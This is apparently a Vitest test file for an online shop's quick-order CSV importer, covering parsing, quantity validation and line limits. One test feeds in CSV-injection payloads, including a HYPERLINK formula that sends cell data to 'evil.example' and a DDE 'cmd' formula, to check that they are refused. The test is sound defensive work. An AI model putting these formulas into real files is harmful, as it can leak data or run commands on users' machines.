// The quick order's CSV file (shopping-core §8): what is read as rows, and a clear message for every
// bad input the issue names, so nothing goes into the basket that the file did not plainly ask for.
import { describe, expect, it } from 'vitest';
import { CSV_MAX_LINES, readQuickOrderCsv } from '~/features/quickorder/quick-order-csv';
import { quantityProblemOf } from '~/features/quickorder/quick-order-quantity';

const bytes = (text: string) => new TextEncoder().encode(text);
const read = (text: string) => readQuickOrderCsv(bytes(text));

describe('a quick order CSV file', () => {
  it('is read with or without a header line, comma or semicolon, CRLF or LF, blank lines skipped', () => {
    const rows = [
      { sku: '201807171', quantity: 2 },
      { sku: '5811C003-03', quantity: 1 },
    ];
    for (const text of [
      '201807171,2\n5811C003-03,1\n',
      'sku,quantity\r\n201807171,2\r\n\r\n5811C003-03,1',
      'SKU;Quantity\n201807171;2\n5811C003-03;1\n',
      '\uFEFF201807171;2\n5811C003-03;1',
      'Product ID,Qty\n"201807171","2"\n 5811C003-03 , 1 \n',
    ]) {
      expect(read(text)).toEqual({ ok: true, lines: rows, problems: [] });
    }
  });

  it('reads quoted cells with the delimiter and doubled quotes in them', () => {
    expect(read('"a,b",2\n')).toEqual({ ok: true, lines: [{ sku: 'a,b', quantity: 2 }], problems: [] });
    expect(read('"say ""hi""";3')).toEqual({ ok: true, lines: [{ sku: 'say "hi"', quantity: 3 }], problems: [] });
  });

  it('numbers lines as the file does, with CR, LF and CRLF line ends mixed', () => {
    expect(read('201807171,1\r\rsku-2,x\n\r\n201807171,0\r\n')).toEqual({
      ok: true,
      lines: [{ sku: '201807171', quantity: 1 }],
      problems: [
        { line: 3, key: 'product.quantity.error.integer' },
        { line: 5, key: 'product.quantity.error.positive' },
      ],
    });
  });

  it('takes a quote inside a cell as a character, keeping the lines after it', () => {
    expect(read('ab"c,1\n201807171,2')).toEqual({
      ok: true,
      lines: [
        { sku: 'ab"c', quantity: 1 },
        { sku: '201807171', quantity: 2 },
      ],
      problems: [],
    });
  });

  it('refuses a quoted cell over several lines by the line it starts on', () => {
    expect(read('201807171,1\r\n"201807171\r\n\r\n2",2\r\n201807171,3')).toEqual({
      ok: true,
      lines: [
        { sku: '201807171', quantity: 1 },
        { sku: '201807171', quantity: 3 },
      ],
      problems: [{ line: 2, key: 'quickorder.csv.error.line_format' }],
    });
  });

  it.each([
    ['CRLF', 'sku,quantity\r\n201807171,1\r\n \r\n"201807171,1\r\n201807171,2\r\n'],
    ['LF, at the end', 'sku,quantity\n201807171,1\n\n"201807171\n\n'],
  ])('refuses the whole file, naming the line, when a quote is never closed (%s)', (_ends, text) => {
    expect(read(text)).toEqual({ ok: false, key: 'quickorder.csv.error.quote_not_closed', values: { line: 4 } });
  });

  it.each([
    ['an empty file', '', 'quickorder.csv.error.empty'],
    ['a file of blank lines', '\n \r\n\n', 'quickorder.csv.error.empty'],
    ['a header line alone', 'sku,quantity\n', 'quickorder.csv.error.empty'],
  ])('refuses %s as empty', (_what, text, key) => {
    expect(read(text)).toEqual({ ok: false, key });
  });

  it('refuses a binary file: bytes that are no UTF-8, or control characters', () => {
    expect(readQuickOrderCsv(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46]))).toEqual({ ok: false, key: 'quickorder.csv.error.not_text' });
    expect(readQuickOrderCsv(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]))).toEqual({ ok: false, key: 'quickorder.csv.error.not_text' });
    expect(read('201807171,1\u0000\n')).toEqual({ ok: false, key: 'quickorder.csv.error.not_text' });
  });

  it(`takes ${CSV_MAX_LINES} lines and refuses more (10,000) as a whole`, () => {
    const lines = (count: number) => Array.from({ length: count }, (_, i) => `SKU-${i},1`).join('\n');
    const most = read(`sku,quantity\n${lines(CSV_MAX_LINES)}`);
    expect(most.ok && most.lines.length).toBe(CSV_MAX_LINES);
    expect(read(lines(CSV_MAX_LINES + 1))).toEqual({ ok: false, key: 'quickorder.csv.error.too_many_lines', values: { max: CSV_MAX_LINES } });
    expect(read(lines(10_000))).toEqual({ ok: false, key: 'quickorder.csv.error.too_many_lines', values: { max: CSV_MAX_LINES } });
  });

  it('refuses each line whose quantity is no whole number from 1 on its own, by its number, and keeps the others', () => {
    const reading = read('sku;quantity\n201807171;0\n201807171;-1\n201807171;1.5\n201807171;1e9\n201807171;1000000000\n201807171;\n201807171;0x10\n5811C003-03;3');
    expect(reading).toEqual({
      ok: true,
      lines: [{ sku: '5811C003-03', quantity: 3 }],
      problems: [
        { line: 2, key: 'product.quantity.error.positive' },
        { line: 3, key: 'product.quantity.error.not_negative' },
        { line: 4, key: 'product.quantity.error.integer' },
        { line: 5, key: 'product.quantity.error.integer' },
        { line: 6, key: 'product.quantity.error.max', values: { max: 9_999_999 } },
        { line: 7, key: 'product.quantity.error.number' },
        { line: 8, key: 'product.quantity.error.integer' },
      ],
    });
  });

  it('refuses formula cells (CSV injection) without taking anything of them', () => {
    const reading = read(
      [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '=HYPERLINK("http://evil.example");1',
        '+201807171,1',
        '@SUM(1+1),1',
        '-2+3,1',
        '201807171,=1+1',
        '"=cmd|\' /C calc\'!A0",1',
        '"\t201807171",1',
        '" =1+1",1',
        '201807171,1',
      ].join('\n'),
    );
    expect(reading).toEqual({
      ok: true,
      lines: [{ sku: '201807171', quantity: 1 }],
      problems: [1, 2, 3, 4, 5, 6, 7, 8, 9].map((line) => ({ line, key: 'quickorder.csv.error.formula' })),
    });
  });

  it('refuses lines that are not an item number and a quantity', () => {
    expect(read('201807171,1,extra\n,2\n201807171,1,\n,\n')).toEqual({
      ok: true,
      lines: [{ sku: '201807171', quantity: 1 }],
      problems: [
        { line: 1, key: 'quickorder.csv.error.line_format' },
        { line: 2, key: 'quickorder.error.sku_missing' },
        { line: 4, key: 'quickorder.error.sku_missing' },
      ],
    });
  });
});

describe('a quick order quantity as typed', () => {
  it.each([
    ['1', undefined],
    [' 12 ', undefined],
    ['9999999', undefined],
    ['', 'product.quantity.error.number'],
    ['0', 'product.quantity.error.positive'],
    ['-1', 'product.quantity.error.not_negative'],
    ['1.5', 'product.quantity.error.integer'],
    ['1e9', 'product.quantity.error.integer'],
    ['1,5', 'product.quantity.error.integer'],
    ['10000000', 'product.quantity.error.max'],
  ])('%j: %s', (typed, key) => {
    expect(quantityProblemOf(typed)?.key).toBe(key);
  });
});
